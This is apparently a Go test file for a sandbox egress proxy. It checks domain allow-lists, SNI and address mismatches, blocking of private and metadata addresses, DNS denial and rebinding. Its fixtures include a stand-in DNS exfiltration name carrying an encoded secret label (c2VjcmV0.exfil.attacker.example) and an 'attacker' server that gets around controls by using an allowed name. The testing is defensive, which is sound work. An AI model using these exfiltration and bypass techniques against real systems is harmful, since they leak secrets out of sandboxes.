package egressproxy_test

import (
	"bytes"
	"context"
	"crypto/rand"
	"log/slog"
	"net/netip"
	"os"
	"strings"
	"sync"
	"testing"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/warren-sandbox/warren/internal/egress"
	"github.com/warren-sandbox/warren/internal/egressproxy"
	"github.com/warren-sandbox/warren/internal/egressproxy/egressproxytest"
	"github.com/warren-sandbox/warren/internal/egressrules"
	"github.com/warren-sandbox/warren/internal/netslot"
	"github.com/warren-sandbox/warren/internal/netslot/netslottest"
	"github.com/warren-sandbox/warren/internal/sandbox"
)

func TestMain(m *testing.M) {
	egressproxytest.GuestMain()
	os.Exit(m.Run())
}

// syncBuffer collects log lines from any goroutine.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// env is a proxy over a real slot pool, with the tests' internet.
type env struct {
	t     testing.TB
	world *egressproxytest.World
	res   *egressproxytest.Resolver
	pool  *egressproxy.Pool
	px    *egressproxy.Proxy
	logs  *syncBuffer
	reg   *prometheus.Registry
}

func newEnv(t testing.TB) *env {
	t.Helper()
	world := egressproxytest.NewWorld(t)
	inner, _ := netslottest.New(t)
	e := &env{t: t, world: world, res: egressproxytest.NewResolver(map[string][]netip.Addr{}), logs: &syncBuffer{}, reg: prometheus.NewRegistry()}
	secret := make([]byte, egressproxy.SecretSize)
	rand.Read(secret)
	px, err := egressproxy.New(egressproxy.Config{
		Upstream: egress.MustParse(world.Prefix.String()),
		Resolver: e.res,
		RootCAs:  world.CA.Pool,
		CASecret: secret,
		Logger:   slog.New(slog.NewTextHandler(e.logs, &slog.HandlerOptions{Level: slog.LevelDebug})),
		Registry: e.reg,
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { px.Close() })
	e.px, e.pool = px, egressproxy.NewPool(inner, px)
	return e
}

// upstream starts an HTTPS server for names and makes the resolver
// answer them with its address.
func (e *env) upstream(names ...string) *egressproxytest.Upstream {
	u := e.world.HTTPS(e.t, names...)
	for _, n := range names {
		e.res.Set(n, u.Addr)
	}
	return u
}

func (e *env) slot(pol netslot.Policy) *netslot.Slot {
	e.t.Helper()
	s, err := e.pool.Acquire(context.Background(), "t"+sandbox.NewExecutionID()[:12], pol)
	if err != nil {
		e.t.Fatal(err)
	}
	e.t.Cleanup(func() {
		if err := e.pool.Release(context.Background(), s); err != nil {
			e.t.Errorf("release: %v", err)
		}
	})
	return s
}

func (e *env) guest(s *netslot.Slot, op egressproxytest.GuestOp) egressproxytest.GuestResult {
	e.t.Helper()
	return egressproxytest.RunGuest(e.t, s.NetNSPath, op)
}

// get asks for url from s, trusting the world's CA and s's own.
func (e *env) get(s *netslot.Slot, url string, mod ...func(*egressproxytest.GuestOp)) egressproxytest.GuestResult {
	e.t.Helper()
	ca, err := e.pool.CACert(s.SandboxID)
	if err != nil {
		e.t.Fatal(err)
	}
	op := egressproxytest.GuestOp{Op: "http", URL: url, RootsPEM: [][]byte{e.world.CA.PEM, ca}}
	for _, m := range mod {
		m(&op)
	}
	return e.guest(s, op)
}

func dialTo(addr netip.Addr, port string) func(*egressproxytest.GuestOp) {
	return func(op *egressproxytest.GuestOp) { op.Dial = addr.String() + ":" + port }
}

func closed(hosts ...string) netslot.Policy {
	return netslot.Policy{Egress: &egressrules.Rules{Hosts: hosts}}
}

func ok(r egressproxytest.GuestResult, want string) bool {
	return r.Err == "" && r.Status == 200 && r.Body == want
}

// TestDomainRules: a sandbox that may reach nothing but its allowOut
// domains reaches them (exact and wildcard, HTTPS and HTTP), and nothing
// else: not another name, not the apex of a wildcard, not an address
// without a name.
func TestDomainRules(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	api := e.upstream("api.test.example")
	other := e.upstream("other.test.example")
	wild := e.upstream("a.wild.example", "deep.a.wild.example", "wild.example")
	s := e.slot(closed("api.test.example", "*.wild.example"))

	for _, c := range []struct{ url, want string }{
		{"https://api.test.example/", "hello from api.test.example"},
		{"http://api.test.example/", "hello from api.test.example"},
		{"https://a.wild.example/", "hello from a.wild.example"},
		{"https://deep.a.wild.example/", "hello from a.wild.example"},
	} {
		if r := e.get(s, c.url); !ok(r, c.want) {
			t.Errorf("GET %s: %s", c.url, r)
		}
	}
	for _, c := range []struct {
		name string
		url  string
		dial func(*egressproxytest.GuestOp)
	}{
		{"other name by DNS", "https://other.test.example/", nil},
		{"other name by address", "https://other.test.example/", dialTo(other.Addr, "443")},
		{"wildcard apex by DNS", "https://wild.example/", nil},
		{"wildcard apex by address", "https://wild.example/", dialTo(wild.Addr, "443")},
		{"allowed address without a name (HTTPS)", "https://" + api.Addr.String() + "/", nil},
		{"allowed address without a name (HTTP)", "http://" + api.Addr.String() + "/", nil},
	} {
		mods := []func(*egressproxytest.GuestOp){}
		if c.dial != nil {
			mods = append(mods, c.dial)
		}
		if r := e.get(s, c.url, mods...); r.Err == "" {
			t.Errorf("%s: %s reached: %s", c.name, c.url, r)
		}
	}
	if n := len(other.Requests()); n != 0 {
		t.Errorf("the other upstream got %d requests", n)
	}
}

// TestNameMismatch: a name counts only for the address it resolves to. A
// sandbox that sends an allowed SNI or Host to another address (its own
// server, say) is refused, and that address gets nothing.
func TestNameMismatch(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.upstream("api.test.example")
	attacker := e.world.HTTPS(t, "api.test.example") // a server of the sandbox's choice, same name
	s := e.slot(closed("api.test.example"))
	for _, url := range []string{"https://api.test.example/", "http://api.test.example/"} {
		if r := e.get(s, url, dialTo(attacker.Addr, map[bool]string{true: "443", false: "80"}[strings.HasPrefix(url, "https")])); r.Err == "" {
			t.Errorf("%s sent to another address: %s", url, r)
		}
	}
	if n := len(attacker.Requests()); n != 0 {
		t.Fatalf("the address the name does not resolve to got %d requests", n)
	}
}

// TestNameResolvingToBlocked: an allowed name that resolves to a private,
// loopback or link-local address (or to the host) is no way in: the
// resolver's answer leaves those addresses out and a connection to them
// is refused.
func TestNameResolvingToBlocked(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	blocked := []netip.Addr{netip.MustParseAddr("10.1.2.3"), netip.MustParseAddr("127.0.0.1"), netip.MustParseAddr("169.254.169.254"), netip.MustParseAddr("192.168.1.1")}
	e.res.Set("evil.test.example", blocked...)
	s := e.slot(netslot.Policy{Internet: true, Egress: &egressrules.Rules{Hosts: []string{"evil.test.example"}}})
	if r := e.guest(s, egressproxytest.GuestOp{Op: "dns", Name: "evil.test.example"}); len(r.Addrs) != 0 {
		t.Fatalf("the resolver gave the sandbox %v", r.Addrs)
	}
	for _, a := range append(blocked, s.HostIP) {
		if r := e.get(s, "http://evil.test.example/", dialTo(a, "80")); r.Err == "" {
			t.Errorf("reached %s: %s", a, r)
		}
	}
}

// TestDNS: a closed sandbox's questions for names no rule allows are
// answered NXDOMAIN without being asked upstream (nothing leaves the host
// in them); allowed names get their public addresses; a sandbox open to
// the internet gets every name.
func TestDNS(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	api := e.upstream("api.test.example")
	e.res.Set("exfil.attacker.example", api.Addr)
	s := e.slot(closed("api.test.example"))
	for _, tcp := range []bool{false, true} {
		r := e.guest(s, egressproxytest.GuestOp{Op: "dns", Name: "api.test.example", TCP: tcp})
		if r.Err != "" || len(r.Addrs) != 1 || r.Addrs[0] != api.Addr {
			t.Errorf("allowed name (tcp=%v): %s", tcp, r)
		}
		r = e.guest(s, egressproxytest.GuestOp{Op: "dns", Name: "c2VjcmV0.exfil.attacker.example", TCP: tcp})
		if r.RCode != "NXDOMAIN" {
			t.Errorf("denied name (tcp=%v): %s", tcp, r)
		}
	}
	for _, n := range e.res.Asked() {
		if strings.Contains(n, "attacker") {
			t.Fatalf("a denied question went upstream: %q", n)
		}
	}
	open := e.slot(netslot.Policy{Internet: true, Egress: &egressrules.Rules{}})
	if r := e.guest(open, egressproxytest.GuestOp{Op: "dns", Name: "exfil.attacker.example"}); len(r.Addrs) != 1 {
		t.Errorf("open sandbox: %s", r)
	}
}

// TestPinnedAnswers: what the resolver told the sandbox stays good for
// the connections that follow, whatever the name resolves to later; a
// rebinding to a private address gets nothing.
func TestPinnedAnswers(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	api := e.upstream("api.test.example")
	s := e.slot(closed("api.test.example"))
	if r := e.guest(s, egressproxytest.GuestOp{Op: "dns", Name: "api.test.example"}); len(r.Addrs) != 1 {
		t.Fatal(r)
	}
	e.res.Set("api.test.example", netip.MustParseAddr("10.9.9.9"))
	if r := e.get(s, "https://api.test.example/", dialTo(api.Addr, "443")); !ok(r, "hello from api.test.example") {
		t.Errorf("pinned address: %s", r)
	}
	if r := e.get(s, "https://api.test.example/"); r.Err == "" {
		t.Errorf("rebinding to a private address: %s", r)
	}
}

// TestServerSpeaksFirst: with domain rules in force, a protocol whose
// server speaks first still works to an address the lists allow.
func TestServerSpeaksFirst(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	banner := e.world.Banner(t, "smtp.test.example ready")
	s := e.slot(netslot.Policy{Internet: true, Egress: &egressrules.Rules{Hosts: []string{"api.test.example"}}})
	if r := e.guest(s, egressproxytest.GuestOp{Op: "banner", Dial: banner.String()}); r.Body != "220 smtp.test.example ready" {
		t.Fatalf("banner: %s", r)
	}
}
